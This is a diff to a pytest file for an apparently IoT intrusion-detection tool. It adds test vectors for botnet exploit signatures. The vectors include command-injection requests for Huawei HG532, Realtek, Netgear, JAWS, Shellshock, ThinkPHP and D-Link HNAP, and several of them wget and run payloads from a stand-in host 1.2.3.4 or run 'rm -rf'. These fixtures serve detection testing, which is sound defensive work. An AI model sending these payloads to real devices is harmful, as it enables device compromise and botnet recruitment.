@@ -11,13 +11,10 @@ from pathlib import Path
 import pytest
 
 from iotscan.capture.source import MeterConfig
+from iotscan.detect.request_findings import PAIR_AFTER_MATCH_MS, PAIR_BEFORE_MATCH_MS, RequestFindings
 from iotscan.detect.request_pass import (
     BOT_CHECKIN,
     METHODS,
-    PAIR_AFTER_MATCH_MS,
-    PAIR_BEFORE_MATCH_MS,
-    SIGNATURES,
-    RequestFindings,
     RequestPlugin,
     dns_query,
     flag_text,
@@ -27,10 +24,11 @@ from iotscan.detect.request_pass import (
     named_hosts,
     read_requests,
     request_pass,
-    signature,
 )
+from iotscan.detect.request_signatures import SIGNATURES, signature
 from iotscan.errors import IotscanError
 from tests.conftest import DATASETS, NDPI_PCAPS, REPO, SAMPLES, dns_query_message, ndjson, require_shared, run_iotscan
+from tests.frames import write_pcap, write_timed_pcap
 
 
 def names(request: bytes) -> str | None:
@@ -73,6 +71,25 @@ def names(request: bytes) -> str | None:
     # THC Hydra's http-get module guessing a camera's password
     (b"GET / HTTP/1.1\r\nHost: 192.168.28.27\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\n"
      b"Authorization: Basic cm9vdDp4Yw==\r\n\r\n", "password guessing tool user agent"),
+    # IoT botnets' exploits, from their public proofs of concept: Huawei HG532 (CVE-2017-17215), Realtek SDK
+    # miniigd (CVE-2014-8361), Netgear setup.cgi, JAWS DVRs, as Mirai's and Satori's variants send them
+    (b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 430\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body>"
+     b"<u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/m -r /m)</NewStatusURL></u:Upgrade></s:Body>",
+     "command injection (request body)"),
+    (b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"
+     b"\r\n\r\n<NewInternalClient>`cd /var; wget http://1.2.3.4/x; chmod +x x; ./x`</NewInternalClient>",
+     "command injection (request body)"),
+    (b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4/x+-O+/tmp/x;sh+/tmp/x"
+     b"&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", "command injection"),
+    (b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n", "command injection"),
+    (b"GET /cgi-bin/status HTTP/1.1\r\nHost: cam\r\nUser-Agent: () { :; }; /bin/bash -c 'cd /tmp; wget x'\r\n\r\n",
+     "Shellshock (bash function definition in an HTTP header, CVE-2014-6271)"),
+    (b"GET /cgi-bin/a HTTP/1.1\r\nReferer: () { ignored;}; echo; /bin/id\r\n\r\n",
+     "Shellshock (bash function definition in an HTTP header, CVE-2014-6271)"),
+    (b"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x "
+     b"HTTP/1.1\r\n\r\n", "ThinkPHP remote code execution (CVE-2018-20062)"),
+    (b"POST /HNAP1/ HTTP/1.0\r\nHost: r\r\nSOAPAction: http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp "
+     b"&& rm -rf * && wget http://h/x && sh x`\r\n\r\n", "D-Link HNAP SOAPAction command injection (CVE-2015-2051)"),
 ])
 def test_requests_match_their_signature(request_bytes: bytes, expected: str) -> None:
     assert names(request_bytes) == expected
@@ -94,6 +111,9 @@ def test_requests_match_their_signature(request_bytes: bytes, expected: str) -> 
     b"POST /api/v1/scene HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"name\": \"echo dot\", \"on\": true}",
     b"GET /docs/nmap-tutorial.html HTTP/1.1\r\nReferer: http://nmap.org/masscan-vs-zgrab\r\n\r\n",  # words
     b"GET",  # no target
+    b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0 ()\r\n\r\n",
+    b"POST /HNAP1/ HTTP/1.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings\"\r\n\r\n",
+    b"GET /index.php?s=/think/about HTTP/1.1\r\n\r\n",
 ])
 def test_ordinary_requests_match_nothing(request_bytes: bytes) -> None:
     assert match_request(request_bytes) == 0
@@ -107,20 +127,29 @@ def test_signature_codes_are_stable_positions() -> None:
                                                  "NULL/FIN/XMAS probe"]
     assert [s.name for s in SIGNATURES[9:13]] == ["nmap service probe", "scanner user agent",
                                                   "command injection (request body)", "exploit tool user agent"]
-    assert [s.name for s in SIGNATURES[13:]] == ["scanner SYN (window 1024, no DF)",
+    assert [s.name for s in SIGNATURES[13:26]] == ["scanner SYN (window 1024, no DF)",
                                                  "ping without data (nmap host discovery)",
                                                  "IRC bot nick naming its CPU", "MQTT login refused", "SSH connection",
                                                  "password guessing tool user agent", "telnet login refused",
                                                  "shell script sent over TCP (a loader or a reverse shell)",
                                                  "Windows executable sent over TCP (a payload stage)",
                                                  "HTTP request head held open 5 s or more (slowloris)",
-                                                 "BASHLITE (Gafgyt) bot check-in naming its CPU", "Mirai bot check-in"]
+                                                 "BASHLITE (Gafgyt) bot check-in naming its CPU", "Mirai bot check-in",
+                                                 "FTP login refused"]
+    assert [s.name.split(" (")[0] for s in SIGNATURES[26:]] == [
+        "Windows command shell banner sent over TCP", "id command output showing root sent over TCP",
+        "Linux executable", "Shellshock", "ThinkPHP remote code execution", "D-Link HNAP SOAPAction command injection"]
     assert signature(0) is None and signature(len(SIGNATURES) + 1) is None
     family = {"target": "exploit", "head": "exploit", "body": "exploit", "dns": "c2", "tcp-flags": "scan",
-              "syn": "scan", "echo": "scan", "line": "c2", "checkin": "c2", "ssh": "bruteforce", "reply": "bruteforce"}
+              "syn": "scan", "echo": "scan", "line": "c2", "checkin": "c2", "ssh": "bruteforce", "reply": "bruteforce",
+              "ftp-reply": "bruteforce"}
     assert [s.family for s in SIGNATURES[20:23]] == ["exploit", "c2", "dos"]
     assert all(s.family == family[s.where]
-               for s in SIGNATURES[:9] + SIGNATURES[11:18] + SIGNATURES[19:20] + SIGNATURES[23:])
+               for s in SIGNATURES[:9] + SIGNATURES[11:18] + SIGNATURES[19:20] + SIGNATURES[23:25])
+    # what this release added: FTP refusals, shells' banners (c2), ELF files and IoT botnets' exploits (exploit)
+    assert [s.family for s in SIGNATURES[25:]] == ["bruteforce", "c2", "c2", "exploit", "exploit", "exploit",
+                                                   "exploit"]
+    assert all(s.source for s in SIGNATURES[25:])  # each cites where it comes from
     assert SIGNATURES[24].reason == "a bot's check-in with its controller: Mirai bot check-in"
     assert SIGNATURES[18].family == "bruteforce" and SIGNATURES[18].reason == \
         "HTTP request matched a password guesser signature: password guessing tool user agent"
@@ -139,7 +168,7 @@ def test_findings_join_flows_in_either_direction_and_within_their_lifetime() -> 
 
 
 def test_findings_stay_bounded_forgetting_the_oldest(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("iotscan.detect.request_pass.MAX_FINDINGS", 3)
+    monkeypatch.setattr("iotscan.detect.request_findings.MAX_FINDINGS", 3)
     f = RequestFindings()
     for port in range(40000, 40005):
         f.add("10.0.0.2", port, "10.0.0.1", 80, 1_000, 1)
@@ -203,7 +232,7 @@ def test_an_exploit_marks_its_victims_flows_to_the_hosts_its_request_names() -> 
 
 
 def test_named_hosts_stay_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("iotscan.detect.request_pass.MAX_FINDINGS", 3)
+    monkeypatch.setattr("iotscan.detect.request_findings.MAX_FINDINGS", 3)
     f = RequestFindings()
     for host in range(6):
         f.add("10.0.0.2", 40000 + host, "10.0.0.1", 80, 1_000, 2, (f"10.0.9.{host}",))
@@ -221,7 +250,7 @@ def test_a_dns_match_marks_no_pair() -> None:
 
 
 def test_marked_pairs_stay_bounded_forgetting_the_oldest(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("iotscan.detect.request_pass.MAX_FINDINGS", 3)
+    monkeypatch.setattr("iotscan.detect.request_findings.MAX_FINDINGS", 3)
     f = RequestFindings()
     for host in range(1, 6):
         f.add("10.0.0.2", 40000, f"10.0.1.{host}", 80, 1_000, 1)
@@ -266,7 +295,7 @@ def test_refused_logins_count_from_the_fifth_within_ten_minutes() -> None:
 
 
 def test_held_refusals_stay_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("iotscan.detect.request_pass.MAX_FINDINGS", 3)
+    monkeypatch.setattr("iotscan.detect.request_findings.MAX_FINDINGS", 3)
     refused = next(code for code, s in enumerate(SIGNATURES, start=1) if s.name == "telnet login refused")
     f = RequestFindings()
     for host in range(10):
@@ -335,8 +364,9 @@ def test_benign_samples_have_no_signature() -> None:
 
 def test_request_pass_reads_the_shared_exploits_and_no_benign_request() -> None:
     require_shared()
-    # WebattackRCE is a Nikto run: its user agent gives away 673 of its 797 flows, its payloads 62 more
-    for name, expected in [("WebattackSQLinj.pcap", 7), ("WebattackRCE.pcap", 735), ("xss.pcap", 1),
+    # WebattackRCE is a Nikto run: its user agent gives away 673 of its 797 flows, its payloads the other 124 (62 of
+    # them its Shellshock probes, "() { :; };" in a header)
+    for name, expected in [("WebattackSQLinj.pcap", 7), ("WebattackRCE.pcap", 797), ("xss.pcap", 1),
                            ("sql_injection.pcap", 1), ("dotenv.pcap", 1), ("log4j-webapp-exploit.pcap", 1),
                            ("shell.pcap", 2), ("portable_executable.pcap", 2)]:
         path = str(NDPI_PCAPS / name)
@@ -489,19 +519,6 @@ def test_request_pass_reads_the_shared_dns_tunnels() -> None:
         assert [signature(c).name for c in codes] == [expected]
 
 
-def _write_timed_pcap(path: Path, frames: list[tuple[float, bytes]], start_s: int = 1_700_000_000) -> None:
-    """A classic pcap (Ethernet) holding each frame at its time (seconds from start_s)."""
-    with path.open("wb") as f:
-        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
-        for t, frame in sorted(frames, key=lambda tf: tf[0]):
-            f.write(struct.pack("<IIII", start_s + int(t), round((t % 1) * 1e6), len(frame), len(frame)) + frame)
-
-
-def _write_pcap(path: Path, frames: list[bytes]) -> None:
-    """A classic pcap (Ethernet) holding ``frames``, one millisecond apart."""
-    _write_timed_pcap(path, [(i / 1000, frame) for i, frame in enumerate(frames)])
-
-
 def _tcp6(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, flags: int,
           payload: bytes = b"") -> bytes:
     tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 65535, 0, 0) + payload
@@ -519,7 +536,7 @@ def _tcp6(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, fl
 def test_ipv6_requests_are_read(tmp_path: Path, payload: bytes, family: str, reason: str) -> None:
     client, server = bytes.fromhex("fd00" + "00" * 13 + "02"), bytes.fromhex("fd00" + "00" * 13 + "01")
     capture = tmp_path / "ipv6-request.pcap"
-    _write_pcap(capture, [
+    write_pcap(capture, [
         _tcp6(client, server, 40000, 80, 1, 0, 0x02),
         _tcp6(server, client, 80, 40000, 9, 2, 0x12),
         _tcp6(client, server, 40000, 80, 2, 10, 0x10),
@@ -584,7 +601,7 @@ def test_the_whole_filter_lets_each_kind_through(tmp_path: Path, vlan: int | Non
     frames.append(_ether(_ip4(6, 12, 1, _tcp(45000, 666, 0x18, b"BUILD X86\n")), 0x0800, vlan))
     frames.append(_ether(_ip4(6, 13, 1, _tcp(46000, 23, 0x18, b"\x00\x00\x00\x01")), 0x0800, vlan))
     capture = tmp_path / "each-kind.pcap"
-    _write_pcap(capture, frames)
+    write_pcap(capture, frames)
     found = read_requests(str(capture), MeterConfig(source=str(capture)))
     names = {key: signature(code).name for key, matches in found.by_endpoints.items() for _, code in matches}
     assert names == {("10.0.0.2", 40000, "10.0.0.1", 80): "path traversal",
@@ -612,6 +629,10 @@ def test_tcp_flag_signature(flags: int, expected: str | None) -> None:
     sig = signature(match_packet(_ip4(6, 3, 1, _tcp(50000, 80, flags))))
     assert (None if sig is None else sig.name) == expected
     assert flag_text(0x29) == "fpu" and flag_text(0) == ""
+
+
+_ELF = "Linux executable (ELF) sent over TCP or TFTP (a bot binary or payload stage)"
+_SHELL = "Windows command shell banner sent over TCP (a bind or reverse shell)"
 
 
 def _name(ip_packet: bytes) -> str | None:
@@ -664,6 +685,27 @@ def _name(ip_packet: bytes) -> str | None:
      "Windows executable sent over TCP (a payload stage)"),
     (_ip4(6, 2, 1, _tcp(40000, 33333, 0x18, b"#!python\nprint(1)\n")), None),
     (_ip4(6, 1, 2, _tcp(4444, 40000, 0x18, b"MZ" + bytes(200))), None),  # no DOS stub: no executable
+    # a Linux executable (ELF: magic, then class and data bytes), raw, as a loader pushes it or an HTTP body in
+    # the headers' segment, or a TFTP data block; not an ELF-like word
+    (_ip4(6, 1, 2, _tcp(33333, 40000, 0x18, b"\x7fELF\x01\x01\x01" + bytes(60))), _ELF),
+    (_ip4(6, 1, 2, _tcp(80, 40000, 0x18, b"HTTP/1.1 200 OK\r\nContent-Length: 9000\r\n\r\n\x7fELF\x02\x01\x01")),
+     _ELF),
+    (_ip4(6, 1, 2, _tcp(80, 40000, 0x18, b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>")), None),
+    (_ip4(17, 1, 2, struct.pack("!HHHH", 33000, 40000, 8 + 68, 0) + b"\x00\x03\x00\x01\x7fELF\x01\x01\x01"
+          + bytes(57)), _ELF),
+    (_ip4(6, 1, 2, _tcp(33333, 40000, 0x18, b"\x7fELF\x09 is not a class")), None),
+    # shells: cmd.exe's banner, a root id's output (bind and reverse shells); not a banner of another program
+    (_ip4(6, 1, 2, _tcp(4444, 40000, 0x18, b"Microsoft Windows [Version 10.0.19045.3570]\r\n(c) Microsoft "
+                                         b"Corporation. All rights reserved.\r\n\r\nC:\\>")), _SHELL),
+    (_ip4(6, 1, 2, _tcp(1957, 40000, 0x18, b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 "
+                                         b"Microsoft Corp.\r\n")), _SHELL),
+    (_ip4(6, 1, 2, _tcp(80, 40000, 0x18, b"Microsoft Windows Update Agent 7.6\r\n")), None),
+    (_ip4(6, 2, 1, _tcp(40000, 4242, 0x18, b"uid=0(root) gid=0(root) groups=0(root)\n")),
+     "id command output showing root sent over TCP (a shell)"),
+    (_ip4(6, 2, 1, _tcp(40000, 4242, 0x18, b"uid=1000(pi) gid=1000(pi)\n")), None),
+    # an FTP server refusing a login (counted between two hosts, as a telnet server's refusals)
+    (_ip4(6, 1, 2, _tcp(21, 40000, 0x18, b"530 Login incorrect.\r\n")), "FTP login refused"),
+    (_ip4(6, 1, 2, _tcp(21, 40000, 0x18, b"230 Login successful.\r\n")), None),
 ])
 def test_probe_command_and_reply_signatures(ip_packet: bytes, expected: str | None) -> None:
     assert _name(ip_packet) == expected
@@ -722,7 +764,7 @@ def test_request_heads_held_open_over_ipv6(tmp_path: Path) -> None:
         frames += [(t + 2.0 * (k + 1), _tcp6(client, server, port, 80, 30 + k, 10, 0x18, b"X-a: %d\r\n" % k))
                    for k in range(3)]
     capture = tmp_path / "slow-heads6.pcap"
-    _write_timed_pcap(capture, frames)
+    write_timed_pcap(capture, frames)
     found = read_requests(str(capture), MeterConfig(source=str(capture)))
     held = {signature(code).name for matches in found.by_endpoints.values() for _, code in matches}
     assert len(found.by_endpoints) == 11 and held == {"HTTP request head held open 5 s or more (slowloris)"}
@@ -741,7 +783,7 @@ def test_request_heads_held_open_by_eleven_connections_are_a_slowloris(tmp_path:
     frames += _requests(6, 11, header_lines, every_s=1.0)  # 4 s: not yet held open
     # heads ended by a blank line sent alone (a 2-byte segment), then short lines of a body: no head open
     frames += _requests(7, 11, [b"line %d\r\n" % k for k in range(4)], every_s=2.0, finished=True)
-    _write_timed_pcap(capture, frames)
+    write_timed_pcap(capture, frames)
     found = read_requests(str(capture), MeterConfig(source=str(capture)))
     names = {key: [signature(code).name for _, code in matches] for key, matches in found.by_endpoints.items()}
     assert names == {("10.0.0.3", 40000 + i, "10.0.0.1", 80): [sig.name] for i in range(11)}
@@ -753,3 +795,23 @@ def test_request_heads_held_open_by_eleven_connections_are_a_slowloris(tmp_path:
         assert (r["verdict"], r["family"], r["score"]) == ("attack", "dos", 1.0)
         assert r["reasons"][0] == f"{sig.name}, 11 or more between the same two hosts within 2 minutes"
 
+
+
+@pytest.mark.parametrize(("host", "matched"), [(b"10.0.0.9", True), (b"10.0.0.9:8080", True), (None, True),
+                                               (b"updates.example.com", False)])
+def test_an_executable_counts_when_fetched_by_address_not_by_name(tmp_path: Path, host: bytes | None,
+                                                                   matched: bool) -> None:
+    # a loader fetches its bot by address (wget http://1.2.3.4/bins/x.arm7); an updater its firmware by name
+    from tests.frames import ether, ipv4, tcp
+
+    head = b"GET /bins/x.arm7 HTTP/1.0\r\n" + (b"Host: " + host + b"\r\n" if host else b"") + b"\r\n"
+    frames = [ipv4("10.0.0.2", "10.0.0.9", 6, tcp(40000, 80, 0x02)),
+              ipv4("10.0.0.9", "10.0.0.2", 6, tcp(80, 40000, 0x12)),
+              ipv4("10.0.0.2", "10.0.0.9", 6, tcp(40000, 80, 0x18, head)),
+              ipv4("10.0.0.9", "10.0.0.2", 6, tcp(80, 40000, 0x18, b"HTTP/1.0 200 OK\r\nContent-Length: 70\r\n\r\n")),
+              ipv4("10.0.0.9", "10.0.0.2", 6, tcp(80, 40000, 0x18, b"\x7fELF\x01\x01\x01" + bytes(63)))]
+    capture = tmp_path / "download.pcap"
+    write_pcap(capture, [ether(f) for f in frames])
+    found = read_requests(str(capture), MeterConfig(source=str(capture)))
+    codes = [code for matches in found.by_endpoints.values() for _, code in matches]
+    assert [signature(c).name for c in codes] == ([_ELF] if matched else [])
